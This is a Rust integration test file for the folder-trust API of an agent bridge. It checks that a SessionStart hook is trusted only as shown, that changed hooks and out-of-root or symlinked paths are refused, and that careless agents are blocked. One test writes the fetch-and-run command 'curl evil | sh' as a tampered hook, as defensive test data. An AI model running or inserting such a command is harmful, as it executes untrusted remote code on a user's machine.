//! Folders that the user trusts or does not.

use std::path::Path;
use std::sync::{Arc, Mutex};

use aqueduct_bridge::message::bridge::{TrustItem, TrustReport, TrustState};
use aqueduct_bridge::settings::AgentSettings;
use aqueduct_bridge::trust::{TrustProvider, TrustProviderError, Untrusted};
use serde_json::{Value, json};

use super::world::{JSON, World, bearer};

/// Trust in one folder, whose file `hook` is what it provides.
#[derive(Default)]
struct Trusted(Mutex<Option<String>>);

impl TrustProvider for Trusted {
    fn inspect(&self, folder: &Path) -> Result<TrustReport<'static>, TrustProviderError> {
        let hook = std::fs::read_to_string(folder.join("hook")).unwrap_or_default();
        let trusted = self.0.lock().unwrap().clone();
        let state = match trusted {
            _ if hook.is_empty() => TrustState::Nothing,
            None => TrustState::Untrusted,
            Some(trusted) if trusted == hook => TrustState::Trusted,
            Some(_) => TrustState::Changed,
        };
        let items = vec![TrustItem::new("hook", "SessionStart", hook.clone())];
        Ok(TrustReport::new(folder.display().to_string(), state, hook, items))
    }

    fn trust(&self, folder: &Path, digest: &str) -> Result<(), TrustProviderError> {
        if self.inspect(folder)?.digest != digest {
            return Err(TrustProviderError::Changed);
        }
        *self.0.lock().unwrap() = Some(digest.to_owned());
        Ok(())
    }

    fn distrust(&self, _: &Path) -> Result<(), TrustProviderError> {
        *self.0.lock().unwrap() = None;
        Ok(())
    }
}

async fn world() -> World {
    let set_up = |settings: &mut aqueduct_bridge::BridgeSettings| {
        settings.trust = Some(Arc::new(Trusted::default()));
        let mut careful = AgentSettings::new("careful", "true");
        careful.untrusted = Untrusted::LeavesOut;
        settings.agents = vec![careful, AgentSettings::new("careless", "true")];
        settings.default_agent = "careful".to_owned();
    };
    World::set_up(set_up, |_| {}).await
}

async fn start(world: &World, agent: &str) -> super::world::Reply {
    let body = json!({"projectPath": world.folder.path(), "agent": agent});
    world.send("POST", "/api/v1/sessions", &body).await
}

async fn look(world: &World) -> Value {
    world.get(&format!("/api/v1/trust?projectPath={}", world.folder.path().display())).await.json()
}

#[tokio::test]
async fn a_folder_is_trusted_as_it_was_shown() {
    let world = world().await;
    let folder = world.folder.path();
    assert_eq!(look(&world).await["state"], "nothing");
    assert_eq!(start(&world, "careless").await.status, 200);

    std::fs::write(folder.join("hook"), "make").unwrap();
    let seen = look(&world).await;
    assert_eq!((&seen["state"], &seen["items"][0]["detail"]), (&json!("untrusted"), &json!("make")));
    std::fs::write(folder.join("hook"), "curl evil | sh").unwrap();
    let body = json!({"projectPath": folder, "digest": seen["digest"]});
    world.send("PUT", "/api/v1/trust", &body).await.assert_error(409, "trust_changed");
    assert_eq!(look(&world).await["state"], "untrusted");

    std::fs::write(folder.join("hook"), "make").unwrap();
    assert_eq!(world.send("PUT", "/api/v1/trust", &body).await.status, 200);
    assert_eq!(look(&world).await["state"], "trusted");
    assert_eq!(start(&world, "careless").await.status, 200);
    std::fs::write(folder.join("hook"), "make all").unwrap();
    assert_eq!(look(&world).await["state"], "changed");
    start(&world, "careless").await.assert_error(403, "trust_required");

    let path = format!("/api/v1/trust?projectPath={}", folder.display());
    assert_eq!(world.ask("DELETE", &path, &bearer(super::world::TOKEN), "").await.status, 200);
    assert_eq!(look(&world).await["state"], "untrusted");
}

#[tokio::test]
async fn an_agent_that_would_use_untrusted_files_is_not_started() {
    let world = world().await;
    std::fs::write(world.folder.path().join("hook"), "make").unwrap();
    let refused = start(&world, "careless").await;
    refused.assert_error(403, "trust_required");
    assert!(refused.text().contains("get_trust"), "{}", refused.text());
    assert_eq!(world.get("/api/v1/sessions").await.json()["sessions"], json!([]), "there is no session");

    let started = start(&world, "careful").await;
    assert_eq!((started.status, &started.json()["trust"]), (200, &json!("untrusted")));
    let hello = world.get("/api/v1/hello").await.json();
    assert!(hello["features"].as_array().unwrap().contains(&json!("trust")), "{hello}");
    let needs: Vec<&Value> =
        hello["agents"].as_array().unwrap().iter().map(|agent| &agent["needsTrust"]).collect();
    assert_eq!(needs, [&Value::Null, &json!(true)]);
}

#[tokio::test]
async fn folders_outside_of_the_roots_are_neither_shown_nor_trusted() {
    let world = world().await;
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("hook"), "make").unwrap();
    let link = world.folder.path().join("link");
    std::os::unix::fs::symlink(outside.path(), &link).unwrap();
    for path in [outside.path(), &link, &link.join("..")] {
        let query = format!("/api/v1/trust?projectPath={}", path.display());
        world.get(&query).await.assert_error(403, "path_not_allowed");
        let body = json!({"projectPath": path, "digest": "make"});
        world.send("PUT", "/api/v1/trust", &body).await.assert_error(403, "path_not_allowed");
        world
            .ask("DELETE", &query, &bearer(super::world::TOKEN), "")
            .await
            .assert_error(403, "path_not_allowed");
    }
    let body = json!({"projectPath": world.folder.path(), "digest": "make"}).to_string();
    world.ask("PUT", "/api/v1/trust", JSON, &body).await.assert_error(401, "unauthorized");
}

#[tokio::test]
async fn a_bridge_that_trusts_everything_asks_nothing() {
    let world = World::new().await;
    let query = format!("/api/v1/trust?projectPath={}", world.folder.path().display());
    world.get(&query).await.assert_error(501, "not_supported");
    let hello = world.get("/api/v1/hello").await.json();
    assert!(!hello["features"].as_array().unwrap().contains(&json!("trust")), "{hello}");
}
